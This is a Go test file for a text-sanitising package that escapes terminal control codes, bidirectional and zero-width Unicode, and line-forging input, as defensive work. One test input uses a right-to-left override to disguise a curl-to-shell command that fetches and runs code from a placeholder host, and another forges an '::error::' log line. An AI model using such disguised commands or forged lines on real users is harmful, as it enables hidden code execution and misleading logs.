package textclean

import (
	"strings"
	"testing"
)

// TestClean: escape sequences show as ␛, other control characters and
// bytes that are not UTF-8 as U+FFFD, newlines and tabs stay, and the
// characters that reorder or hide text show as \uXXXX.
func TestClean(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain text\twith tab\nand line", "plain text\twith tab\nand line"},
		{"\x1b[2Jred", "␛[2Jred"},
		{"nul\x00 bell\a del\x7f csi\u009b", "nul� bell� del� csi�"},
		{"bad \xff utf-8", "bad � utf-8"},
		// U+202E makes the rest read backwards: "curl … | sh" drawn from
		// "'; hs | p/elpmaxe.live//:sptth lruc".
		{"echo \u202ehs | p/elpmaxe.live//:sptth lruc", `echo \u202ehs | p/elpmaxe.live//:sptth lruc`},
		{"PATH\u200b", `PATH\u200b`},
		{"a\u202ab\u202dc\u2066d\u2069e\u200ef\u200fg\u061ch", `a\u202ab\u202dc\u2066d\u2069e\u200ef\u200fg\u061ch`},
		{"\ufeffzero\u200cwidth\u200d\u2060", `\ufeffzero\u200cwidth\u200d\u2060`},
		{"naïve café — 日本語 👍", "naïve café — 日本語 👍"},
	} {
		if got := Clean(tc.in); got != tc.want {
			t.Errorf("Clean(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestOneLine: line breaks and runs of white space cannot forge further
// lines; the text is cleaned as Clean does.
func TestOneLine(t *testing.T) {
	if got := OneLine("  ok\n::error::forged\r\n\tline\u202e "); got != `ok ::error::forged� line\u202e` {
		t.Errorf("OneLine: %q", got)
	}
}

// TestCut: the limit counts runes or bytes, a rune is never split, and the
// marker is the one asked for.
func TestCut(t *testing.T) {
	long := strings.Repeat("é", 10) // 20 bytes
	for _, tc := range []struct {
		name string
		got  string
		want string
	}{
		{"fits", Cut("short", 10), "short"},
		{"runes", Cut(long, 4), "éééé…"},
		{"exact", Cut(long, 10), long},
		{"no limit", Cut(long, 0), long},
		{"bytes on a rune boundary", Cut(long, 5, InBytes()), "éé…"},
		{"bytes fit", Cut(long, 20, InBytes()), long},
		{"no marker", Cut(long, 5, InBytes(), Marker("")), "éé"},
		{"other marker", Cut("abcdef", 3, Marker("...")), "abc..."},
		{"say the rest", Cut("abcdef", 2, SayRest()), "ab… (4 more bytes)"},
		{"say the rest in bytes", Cut(long, 3, InBytes(), SayRest()), "é… (18 more bytes)"},
	} {
		if tc.got != tc.want {
			t.Errorf("%s: %q, want %q", tc.name, tc.got, tc.want)
		}
	}
}

// TestEscapeJSON: DEL and the C1 controls in encoded JSON become \u
// escapes; other text, accented letters among it, stays as it is.
func TestEscapeJSON(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`"plain"`, `"plain"`},
		{"\"\u009b31m\"", `"\u009b31m"`},
		{"\"é \u0085 ü\"", "\"é \\u0085 ü\""},
		{"\"del\x7f\"", `"del\u007f"`},
	} {
		if got := string(EscapeJSON([]byte(tc.in))); got != tc.want {
			t.Errorf("EscapeJSON(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
